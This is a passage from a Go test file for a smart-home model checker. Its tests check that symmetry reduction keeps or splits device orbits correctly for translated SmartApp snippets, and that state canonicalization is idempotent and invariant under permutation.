    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def home = people.findAll { it.currentPresence == "present" }
    if (home[0]) { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Derived Indexer": app}
		insts := []config.AppInstance{{App: "Derived Indexer",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("derived-list indexing must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("chained-extraction-splits", func(t *testing.T) {
		// Inline chains must taint through every hop:
		// people.findAll{...}.first() extracts a position-determined
		// device without ever binding an intermediate local.
		src := `
definition(name: "Chain Extractor", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (people.findAll { it.currentPresence == "present" }.first()) { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Chain Extractor": app}
		insts := []config.AppInstance{{App: "Chain Extractor",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("chained extraction must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("list-stored-in-state-splits", func(t *testing.T) {
		// Storing the device list into persistent state lets another
		// handler read it back and index it — per-method analysis cannot
		// see that, so the store itself must defeat the certificate.
		src := `
definition(name: "List Stasher", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    state.saved = people
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"List Stasher": app}
		insts := []config.AppInstance{{App: "List Stasher",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("device list stored in state must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("helper-returned-list-splits", func(t *testing.T) {
		// A helper returning the device list must carry the taint to its
		// call sites: ppl()[0] is people[0].
		src := `
definition(name: "Helper Indexer", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def ppl() { return people }
def presenceHandler(evt) {
    if (ppl()[0].currentPresence == "present") { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Helper Indexer": app}
		insts := []config.AppInstance{{App: "Helper Indexer",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("helper-returned list indexing must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("closure-element-sink-splits", func(t *testing.T) {
		// Iteration binds list elements to the closure param; writing
		// element-derived data to state is last-writer order-dependent.
		src := `
definition(name: "Element Stasher", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    people.each { state.last = it.currentPresence }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Element Stasher": app}
		insts := []config.AppInstance{{App: "Element Stasher",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("closure-element state write must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("argument-derived-list-splits", func(t *testing.T) {
		// The device list flowing through a call *argument*
		// (l.plus(people)) must taint the result like a receiver would.
		src := `
definition(name: "Arg Deriver", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def l = []
    l = l.plus(people)
    state.who = l[0].currentPresence
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Arg Deriver": app}
		insts := []config.AppInstance{{App: "Arg Deriver",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("argument-derived list indexing must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("logged-indexing-keeps-orbit", func(t *testing.T) {
		// Indexing inside a log argument is discarded by the model host:
		// it must NOT dissolve the orbit (fold-quality guard).
		src := `
definition(name: "Log Indexer", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    log.debug "first: ${people[0].currentPresence}"
    lock1.lock()
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Log Indexer": app}
		insts := []config.AppInstance{{App: "Log Indexer",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Largest != 3 {
			t.Fatalf("log-only indexing must keep the orbit, got %+v", st)
		}
	})

	t.Run("forin-element-sink-splits", func(t *testing.T) {
		// for (p in people) binds elements like an .each closure param;
		// the loop-variable taint must not be the closure path's alone.
		src := `
definition(name: "ForIn Stasher", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    for (p in people) { state.last = p.currentPresence }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"ForIn Stasher": app}
		insts := []config.AppInstance{{App: "ForIn Stasher",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("for-in element state write must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("map-wrapped-element-sink-splits", func(t *testing.T) {
		// Wrapping element data in a map literal must not launder taint.
		src := `
definition(name: "Map Wrapper", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    people.each { state.x = [v: it.currentPresence] }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Map Wrapper": app}
		insts := []config.AppInstance{{App: "Map Wrapper",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("map-wrapped element sink must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("late-taint-in-loop-body-splits", func(t *testing.T) {
		// Iteration feeds later assignments into earlier statements on
		// the next pass: the walk must reach a taint fixpoint.
		src := `
definition(name: "Prev Writer", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def prev = null
    people.each {
        state.last = prev
        prev = it.currentPresence
    }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Prev Writer": app}
		insts := []config.AppInstance{{App: "Prev Writer",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("late-tainted loop-body sink must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("index-form-state-write-splits", func(t *testing.T) {
		// state["last"] = … is the index spelling of state.last = …
		src := `
definition(name: "Index Writer", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    people.each { state["last"] = it.currentPresence }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Index Writer": app}
		insts := []config.AppInstance{{App: "Index Writer",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("index-form state write must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("state-map-put-splits", func(t *testing.T) {
		// state.m.put(k, v) mutates persistent state in place: the
		// arguments are a sink without any assignment statement.
		src := `
definition(name: "Map Putter", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { state.m = [:]; subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    people.each { state.m.put("last", it.currentPresence) }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Map Putter": app}
		insts := []config.AppInstance{{App: "Map Putter",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("state-map put must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("nested-loop-fixpoint-splits", func(t *testing.T) {
		// An inner iteration must not clear the outer fixpoint's
		// progress: the late-tainted local still reaches the sink.
		src := `
definition(name: "Nested Looper", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def copyv = null
    people.each { p ->
        state.snap = copyv
        copyv = p.currentPresence
        people.each { q -> def z = 1 }
    }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Nested Looper": app}
		insts := []config.AppInstance{{App: "Nested Looper",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("nested-loop late taint must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("while-loop-carried-taint-splits", func(t *testing.T) {
		// Loop-carried taint through a while body (no element binding)
		// still needs the method-level fixpoint.
		src := `
definition(name: "While Carrier", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def zzz = null
    def i = 0
    while (i < 2) {
        state.s = zzz
        zzz = pickv()
        i = i + 1
    }
}
def pickv() { return people }
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"While Carrier": app}
		insts := []config.AppInstance{{App: "While Carrier",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("while-carried taint must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("deep-alias-chain-splits", func(t *testing.T) {
		// A reversed alias chain needs one fixpoint pass per hop; deep
		// chains must converge (or refuse the certificate), not
		// silently under-approximate.
		src := `
definition(name: "Chain Carrier", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def a1 = null
    def b1 = null
    def c1 = null
    def d1 = null
    def e1 = null
    people.each { p ->
        state.snap = e1
        e1 = d1
        d1 = c1
        c1 = b1
        b1 = a1
        a1 = p.currentPresence
    }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Chain Carrier": app}
		insts := []config.AppInstance{{App: "Chain Carrier",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("deep alias chain must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("helper-param-sink-splits", func(t *testing.T) {
		// A device list passed into a helper parameter must taint the
		// parameter inside the helper body.
		src := `
definition(name: "Param Router", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) { stash(people) }
def stash(lst) { state.first = lst[0].currentPresence }
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Param Router": app}
		insts := []config.AppInstance{{App: "Param Router",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("helper-parameter sink must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("helper-in-log-arg-splits", func(t *testing.T) {
		// A helper invoked inside a log argument still performs real
		// state writes: suppression must not leak into its body.
		src := `
definition(name: "Log Helper", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) { log.debug stamp() }
def stamp() {
    state.who = people[0].currentPresence
    return "x"
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Log Helper": app}
		insts := []config.AppInstance{{App: "Log Helper",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("state write inside log-invoked helper must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("helper-return-into-state-splits", func(t *testing.T) {
		// state.x = helper() where the helper returns list-derived data:
		// the sink check is value-level, so the call-site flags it.
		src := `
definition(name: "Return Stasher", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) { state.all = snapshot() }
def snapshot() { return people.collect { it.currentPresence } }
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Return Stasher": app}
		insts := []config.AppInstance{{App: "Return Stasher",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("helper-return state write must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("element-via-local-sink-splits", func(t *testing.T) {
		// Element-derived data routed through a local before the state
		// write must still taint (last-writer order dependence).
		src := `
definition(name: "Local Router", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def v = "none"
    people.each { v = it.currentPresence }
    state.x = v
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Local Router": app}
		insts := []config.AppInstance{{App: "Local Router",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("element-via-local state write must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("ordered-aggregate-comparison-splits", func(t *testing.T) {
		// Branching on an order-folded aggregate (collect{…}.join())
		// observes list order even without a state write.
		src := `
definition(name: "Join Gate", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (people.collect { it.currentPresence }.join() == "presentnot presentnot present") {
        lock1.unlock()
    }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Join Gate": app}
		insts := []config.AppInstance{{App: "Join Gate",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("ordered-aggregate comparison must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("multiset-aggregates-keep-orbit", func(t *testing.T) {
		// any{}/count{}/size() are permutation-invariant: the ubiquitous
		// anyone-home pattern must keep its orbit (fold-quality guard).
		src := `
definition(name: "Multiset User", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    def homeCount = people.count { it.currentPresence == "present" }
    if (!anyoneHome && homeCount == 0) { lock1.lock() }
    state.count = homeCount
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Multiset User": app}
		insts := []config.AppInstance{{App: "Multiset User",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Largest != 3 {
			t.Fatalf("multiset aggregates must keep the orbit, got %+v", st)
		}
	})

	t.Run("shadowed-evt-param-splits", func(t *testing.T) {
		// A closure param shadowing the handler's event parameter is a
		// device element: its .name is identity, not the attribute name.
		src := `
definition(name: "Shadow Namer", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    people.each { evt -> state.x = evt.name }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Shadow Namer": app}
		insts := []config.AppInstance{{App: "Shadow Namer",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("shadowed event param identity read must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("network-id-branching-splits", func(t *testing.T) {
		// deviceNetworkId resolves to per-device identity at runtime;
		// branching on it must defeat the certificate (while evt.name —
		// the attribute name — must not, covered by the baseline case
		// whose corpus apps read evt.value).
		src := `
definition(name: "NetId Gate", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.device.deviceNetworkId == "dev-0") { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"NetId Gate": app}
		insts := []config.AppInstance{{App: "NetId Gate",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("deviceNetworkId branching must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("property-form-first-splits", func(t *testing.T) {
		// people.first (property form, no parens) extracts the
		// position-determined element just like people.first().
		src := `
definition(name: "Property First", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def lead = people.first
    if (lead.currentPresence == "present") { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Property First": app}
		insts := []config.AppInstance{{App: "Property First",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("property-form first must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("command-capable-devices-split", func(t *testing.T) {
		// Identical switches never orbit even under a symmetric app:
		// command-log violation details name the commanded device, so a
		// fold could drop label-distinct reports.
		src := `
definition(name: "All Off", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("Switches") { input "switches", "capability.switch", multiple: true }
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    switches.off()
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		ds := append(devices(nil),
			config.Device{ID: "sw1", Label: "SW1", Model: "Smart Switch"},
			config.Device{ID: "sw2", Label: "SW2", Model: "Smart Switch"},
			config.Device{ID: "sw3", Label: "SW3", Model: "Smart Switch"})
		apps := map[string]*ir.App{"All Off": app}
		insts := []config.AppInstance{{App: "All Off", Bindings: map[string]config.Binding{
			"people":   people3,
			"switches": {DeviceIDs: []string{"sw1", "sw2", "sw3"}}}}}
		m := build(t, ds, apps, insts)
		st := m.SymmetryStats()
		if st.Orbits != 1 || st.Largest != 3 {
			t.Fatalf("want exactly the presence orbit, got %+v (orbits %v)", st, m.DeviceOrbits())
		}
		for _, o := range m.DeviceOrbits() {
			for _, d := range o {
				if d > 2 {
					t.Fatalf("command-capable device %d landed in an orbit: %v", d, m.DeviceOrbits())
				}
			}
		}
	})
}

// symSampleStates collects a deterministic sample of reachable states
// by breadth-first expansion.
func symSampleStates(m *Model, limit int) []*State {
	states := []*State{m.Initial()}
	for i := 0; i < len(states) && len(states) < limit; i++ {
		for _, tr := range m.Expand(states[i]) {
			if len(states) >= limit {
				break
			}
			states = append(states, tr.Next.(*State))
		}
	}
	return states
}

// TestCanonicalizeIdempotent: canon(canon(s)) == canon(s), and the
// materialized representative encodes exactly to the direct canonical
// encoding (the differential check between the two canonical paths).
func TestCanonicalizeIdempotent(t *testing.T) {
	m := symTestModel(t, Options{Design: Concurrent})
	for i, s := range symSampleStates(m, 300) {
		direct := m.CanonicalEncode(s, nil)
		rep := m.Canonicalize(s)
		if got := rep.Encode(nil); !bytes.Equal(got, direct) {
			t.Fatalf("state %d: Canonicalize(s).Encode differs from CanonicalEncode(s)", i)
		}
		if got := m.CanonicalEncode(rep, nil); !bytes.Equal(got, direct) {
			t.Fatalf("state %d: canonical encode not idempotent", i)
		}
		rep2 := m.Canonicalize(rep)
		if got := rep2.Encode(nil); !bytes.Equal(got, direct) {
			t.Fatalf("state %d: Canonicalize not idempotent", i)
		}
	}
}

// TestCanonicalPermutationInvariance: fuzz over random within-orbit
// permutations — the canonical encoding of the permuted image must
// equal the canonical encoding of the original, and raw encodings must
// differ whenever the permutation actually moved distinguishable state
// (folding is exactly the orbit quotient).
func TestCanonicalPermutationInvariance(t *testing.T) {
	m := symTestModel(t, Options{Design: Concurrent})
	orbits := m.DeviceOrbits()
	if len(orbits) == 0 {
		t.Fatal("no orbits — fuzz is vacuous")
	}
	rng := rand.New(rand.NewSource(1))
	states := symSampleStates(m, 200)
	for i, s := range states {
		for round := 0; round < 4; round++ {
			perm := make([]int, len(m.Devices))
			for d := range perm {
				perm[d] = d
			}
			for _, o := range orbits {
				shuffled := append([]int(nil), o...)
				rng.Shuffle(len(shuffled), func(a, b int) {
					shuffled[a], shuffled[b] = shuffled[b], shuffled[a]
				})
				for k, d := range o {
					perm[d] = shuffled[k]
				}
			}
			img, ok := m.ApplyDevicePermutation(s, perm)
			if !ok {
				t.Fatalf("state %d: permutation %v rejected", i, perm)
			}
			a := m.CanonicalEncode(s, nil)
			b := m.CanonicalEncode(img, nil)
			if !bytes.Equal(a, b) {
				t.Fatalf("state %d round %d: canonical encodings differ under orbit permutation %v",
					i, round, perm)
			}
		}
	}
}

// TestApplyDevicePermutationRejectsCrossOrbit: permutations that move a
// device out of its orbit (or touch a singleton) are not group members.
func TestApplyDevicePermutationRejectsCrossOrbit(t *testing.T) {
	m := symTestModel(t, Options{})
	s := m.Initial()
	perm := make([]int, len(m.Devices))
	for d := range perm {
		perm[d] = d
	}
	perm[0], perm[3] = 3, 0 // presence ↔ contact: cross-orbit
	if _, ok := m.ApplyDevicePermutation(s, perm); ok {
		t.Fatal("cross-orbit permutation accepted")
	}
	perm[0], perm[3] = 0, 3
	perm[6], perm[7] = 7, 6 // light ↔ lock: singletons
	if _, ok := m.ApplyDevicePermutation(s, perm); ok {
		t.Fatal("singleton-moving permutation accepted")
	}
}

// TestSymmetryOffIsRaw: without Options.Symmetry (or with no orbits)
// CanonicalEncode is byte-for-byte the raw encoding.
func TestSymmetryOffIsRaw(t *testing.T) {
	apps := translate(t, "Last Out Lock")
	m, err := New(&config.System{
		Name: "plain", Modes: []string{"Home"}, Mode: "Home",
		Devices: []config.Device{
			{ID: "p1", Label: "P1", Model: "Presence Sensor"},
			{ID: "lk", Label: "Lock", Model: "Smart Lock"},
		},
		Apps: []config.AppInstance{{App: "Last Out Lock", Bindings: map[string]config.Binding{
			"people": {DeviceIDs: []string{"p1"}}, "lock1": {DeviceIDs: []string{"lk"}}}}},
	}, apps, Options{MaxEvents: 2})
	if err != nil {
		t.Fatal(err)
	}
	s := m.Initial()
	if !bytes.Equal(m.CanonicalEncode(s, nil), s.Encode(nil)) {
		t.Fatal("CanonicalEncode without a symmetry table must be the raw encoding")
	}
}

// TestSymmetryStoredRefTieBreak is the regression gate for the
// reference-counting tie-break in orbit ordering: two states that
// differ only in WHICH orbit member an app's stored VDevice reference
// names are images of each other under a transposition, so they must
// fold to one canonical key — which requires the device profiles to
// account for who points at whom (without reference items the orbit
// sort is blind to the reference, keeps identity order for both
// states, and the canonical encodings soundly-but-wastefully differ).
// A stored reference must still split from no reference at all.
func TestSymmetryStoredRefTieBreak(t *testing.T) {
	for _, inc := range []bool{false, true} {
		t.Run(fmt.Sprintf("incremental=%v", inc), func(t *testing.T) {
			m := symTestModel(t, Options{Design: Concurrent, Incremental: inc})
			base := m.Initial()
			withRef := func(v ir.Value) *State {
				s := base.Clone()
				s.Apps[0].KV = map[string]ir.Value{"buddy": v}
				s.MarkAllDirty()
				return s
			}
			// Devices 0..2 are the presence-sensor orbit.
			sA, sB := withRef(ir.DeviceV(0)), withRef(ir.DeviceV(1))
			if !bytes.Equal(m.CanonicalEncode(sA, nil), m.CanonicalEncode(sB, nil)) {
				t.Error("states differing only in the referenced orbit member did not fold")
			}
			if bytes.Equal(m.CanonicalEncode(sA, nil), m.CanonicalEncode(base, nil)) {
				t.Error("a stored device reference folded onto the reference-free state")
			}
			// Same via a nested reference (list-wrapped), exercising the
			// recursive walk.
			nA := withRef(ir.DevicesV([]ir.Value{ir.DeviceV(2)}))
			nB := withRef(ir.DevicesV([]ir.Value{ir.DeviceV(0)}))
			if !bytes.Equal(m.CanonicalEncode(nA, nil), m.CanonicalEncode(nB, nil)) {
				t.Error("nested orbit references did not fold")
			}
			if bytes.Equal(m.CanonicalEncode(nA, nil), m.CanonicalEncode(sA, nil)) {
				t.Error("a nested reference folded onto a direct reference")
			}
			// Two references to distinct members fold with any other
			// two-distinct-member pair but not with a doubled reference.
			dAB := withRef(ir.DevicesV([]ir.Value{ir.DeviceV(0), ir.DeviceV(1)}))
